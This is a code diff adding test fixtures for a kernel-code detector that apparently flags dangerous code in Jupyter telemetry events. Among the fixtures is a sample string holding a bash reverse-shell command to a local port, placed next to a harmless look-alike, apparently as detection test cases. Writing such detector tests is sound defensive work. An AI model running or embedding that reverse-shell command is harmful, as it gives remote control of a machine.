@@ -36,3 +36,28 @@ def pack() -> Any:
     detector = Detector.shipped()
     yield detector
     detector.close()
+
+
+ALERT = "https://telemetry.jupyter.org/schemas/events/detect/alert"
+PII = "user-identifiable-information"
+#: A policy that keeps kernel code and users (detection needs the code) and alerts.
+POLICY = {KERNEL: {"allowed_categories": [PII], "consent": "required"},
+          ALERT: {"allowed_categories": [PII], "consent": "required"}}
+REVERSE_SHELL = "cmd = 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'  # a string, never run"
+LOOK_ALIKE = "print('bash reads /dev/tty, not a socket')"
+
+
+def record_code(log: Any, codes: list[str], user: str = "ana",
+                start: Any = None) -> list[dict[str, Any]]:
+    """Record one kernel-code event per item of ``codes``; the events as recorded."""
+    from datetime import datetime, timedelta, timezone
+
+    start = start or datetime(2026, 12, 7, 10, 0, tzinfo=timezone.utc)
+    recorded = []
+    for n, code in enumerate(codes):
+        event = log.record_event(KERNEL, 1, {"kernel_id": "k1", "status": "ok",
+                                             "code": code, "user": user},
+                                 timestamp_override=start + timedelta(minutes=n))
+        assert event is not None
+        recorded.append(event)
+    return recorded
